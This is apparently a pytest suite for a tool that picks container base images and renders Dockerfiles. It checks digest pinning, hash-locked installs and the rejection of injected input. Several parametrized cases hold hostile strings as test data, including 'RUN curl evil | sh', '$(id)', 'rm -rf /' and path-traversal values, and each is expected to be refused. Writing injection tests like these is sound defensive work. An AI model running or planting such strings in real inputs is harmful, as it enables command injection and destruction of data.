"""Base image choice and Dockerfile rendering: pure, pinned and injection-proof."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from envsnap.errors import UsageError
from envsnap.image import (
    check_reference,
    choose_base,
    plan_image,
    render_dockerfile,
    write_context,
)
from envsnap.manifest import Container, Cuda, seal
from tests.conftest import sample_manifest

PINNED = "127.0.0.1:5000/team/python@sha256:" + "a" * 64


def _plan(**changes: object) -> object:
    manifest = seal(sample_manifest(**changes))
    return plan_image(
        manifest,
        base=PINNED,
        tool_wheel="envsnap-0.1.0-py3-none-any.whl",
        has_vcs=False,
        envsnap_version="0.1.0",
    )


class TestBaseChoice:
    def test_cli_wins(self) -> None:
        """--base beats configuration and the recorded image."""
        m = sample_manifest()
        assert choose_base(m, cli_base="a:1", config_base="b:2").reference == "a:1"
        assert choose_base(m, config_base="b:2").reason == "[tool.envsnap] base-image"

    def test_recorded_container_image(self) -> None:
        """A run captured in an image with a known digest rebuilds from that digest."""
        digest = "sha256:" + "b" * 64
        m = sample_manifest(
            container=Container(inside=True, image="ghcr.io/acme/train:1.2", image_digest=digest)
        )
        assert choose_base(m).reference == f"ghcr.io/acme/train@{digest}"

    def test_rule_for_cpu_python(self) -> None:
        """Without CUDA the rule picks the python slim image of the exact version and codename."""
        assert choose_base(sample_manifest()).reference == "python:3.11.7-slim-bookworm"

    def test_rule_for_cuda(self) -> None:
        """A CUDA run on Ubuntu gets the matching nvidia/cuda runtime image."""
        m = sample_manifest(cuda=Cuda(runtime_version="12.1"))
        m = dataclasses.replace(
            m, host=dataclasses.replace(m.host, os_id="ubuntu", os_version="22.04")
        )
        assert choose_base(m).reference == "nvidia/cuda:12.1.0-cudnn-runtime-ubuntu22.04"

    @pytest.mark.parametrize(
        "bad",
        ["python:3.11\nRUN curl evil", "--network=host", "python:3.11 AS x", "a b", "$(id)", ""],
    )
    def test_unsafe_references_refused(self, bad: str) -> None:
        """A reference that could end a line, add an option or run a command is refused."""
        with pytest.raises(UsageError, match="not a valid image reference"):
            check_reference(bad, "--base")


class TestRendering:
    def test_base_is_pinned_by_digest(self) -> None:
        """The Dockerfile takes the base by digest; an unpinned base cannot be planned."""
        text = render_dockerfile(_plan())  # type: ignore[arg-type]
        assert "FROM ${ENVSNAP_BASE} AS envsnap-base" in text
        assert f'org.opencontainers.image.base.name="{PINNED}"' in text
        with pytest.raises(UsageError, match="not pinned by digest"):
            plan_image(
                seal(sample_manifest()),
                base="python:3.11",
                tool_wheel="envsnap-0.1.0-py3-none-any.whl",
                has_vcs=False,
                envsnap_version="0.1.0",
            )

    def test_locked_install_and_secrets(self) -> None:
        """Packages install with --require-hashes; the CA and pip config are secret mounts."""
        text = render_dockerfile(_plan())  # type: ignore[arg-type]
        assert "--require-hashes" in text and "--mount=type=secret,id=pip-ca" in text
        assert "USER envsnap" in text and "ENVSNAP_IMAGE=envsnap/env:" in text

    def test_rendering_is_deterministic(self) -> None:
        """The same manifest renders the same Dockerfile."""
        assert render_dockerfile(_plan()) == render_dockerfile(_plan())  # type: ignore[arg-type]

    def test_manifest_values_cannot_inject(self) -> None:
        """A run id or digest edited to hold a newline or a command never reaches the Dockerfile."""
        manifest = seal(sample_manifest())
        for field, value in (
            ("run_id", "x\nRUN curl evil | sh"),
            ("env_id", 'sha256:1" \\\nRUN id'),
            ("digest", "$(id)"),
        ):
            with pytest.raises(UsageError, match="unsafe value"):
                plan_image(
                    dataclasses.replace(manifest, **{field: value}),
                    base=PINNED,
                    tool_wheel="envsnap-0.1.0-py3-none-any.whl",
                    has_vcs=False,
                    envsnap_version="0.1.0",
                )

    def test_vcs_requirements_installed_apart(self) -> None:
        """VCS pins, which pip cannot hash, are installed from their own file."""
        manifest = seal(sample_manifest())
        plan = plan_image(
            manifest,
            base=PINNED,
            tool_wheel="envsnap-0.1.0-py3-none-any.whl",
            has_vcs=True,
            envsnap_version="0.1.0",
        )
        text = render_dockerfile(plan)
        copy = "COPY --chmod=0644 requirements.lock.txt base-provided.txt envsnap_venv.py "
        assert copy + "requirements.vcs.txt /envsnap/" in text
        assert "-r /envsnap/requirements.vcs.txt" in text


class TestEditables:
    """The project's own editable packages are installed from its code at /work."""

    def _render(self, *paths: str) -> str:
        plan = plan_image(
            seal(sample_manifest()),
            base=PINNED,
            tool_wheel="envsnap-0.1.0-py3-none-any.whl",
            has_vcs=False,
            envsnap_version="0.1.0",
            editables=paths,
        )
        return render_dockerfile(plan)

    def test_none_no_step(self) -> None:
        """Without editable packages the project's code is not copied into the image."""
        assert "COPY project/" not in self._render()

    def test_installed_editable_from_work(self) -> None:
        """Each path is installed editable from /work, the recorded build backend first."""
        text = self._render("tools", ".")
        assert "COPY project/ /work/" in text
        assert 'for project in "/work" "/work/tools"; do' in text
        assert '--no-build-isolation -e "$project"' in text

    @pytest.mark.parametrize(
        "path", ["../outside", "/etc", "a/../../b", "x\nRUN curl", 'x"; rm -rf /', "$(id)", ""]
    )
    def test_unsafe_paths_refused(self, path: str) -> None:
        """A path that climbs out, is absolute, or carries shell or Dockerfile syntax is refused."""
        with pytest.raises(UsageError, match="editable package path"):
            self._render(path)


class TestContext:
    def test_context_is_byte_stable(self, tmp_path: Path) -> None:
        """Writing the same files twice gives the same hash, modes and times."""
        files = {"Dockerfile": b"FROM x\n", "tool/a.whl": b"zip"}
        (tmp_path / "a").mkdir()
        (tmp_path / "b").mkdir()
        assert write_context(tmp_path / "a", files) == write_context(tmp_path / "b", files)
        stat = (tmp_path / "a" / "tool" / "a.whl").stat()
        assert stat.st_mtime == 315532800 and stat.st_mode & 0o777 == 0o644
